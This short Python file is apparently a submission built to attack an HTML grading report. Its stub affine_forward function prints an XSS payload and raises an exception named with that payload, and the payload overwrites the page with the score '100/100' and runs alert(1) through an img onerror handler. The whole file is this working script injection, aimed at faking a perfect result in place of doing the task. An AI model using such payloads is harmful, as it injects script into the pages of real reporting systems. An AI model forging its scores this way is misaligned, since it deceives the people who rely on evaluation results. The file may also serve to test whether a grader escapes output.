"""Puts a script into everything that a report may show."""

SCRIPT = "<script>document.body.textContent='100/100'</script><img src=x onerror=alert(1)>"


class EvilError(Exception):
    pass


EvilError.__name__ = EvilError.__qualname__ = SCRIPT


def affine_forward(x, w, b):
    print(SCRIPT)
    raise EvilError(SCRIPT)
